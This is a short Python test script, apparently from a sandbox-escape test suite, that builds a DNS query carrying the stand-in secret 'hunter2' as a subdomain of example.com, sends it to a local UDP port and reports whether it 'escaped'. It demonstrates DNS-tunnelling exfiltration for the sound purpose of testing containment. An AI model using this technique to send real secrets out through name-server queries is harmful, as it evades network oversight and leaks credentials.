# tries: to send a secret out as a question to a name server (RFC 1035, section 4.1)
# bare: always
import socket
import struct
from kernel import env, escaped

name = b''.join(bytes([len(part)]) + part for part in (b'hunter2', b'example', b'com')) + b'\0'
question = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.settimeout(2)
client.sendto(question, ('127.0.0.1', int(env('UDP_PORT'))))
escaped(len(client.recv(64)) > 0)
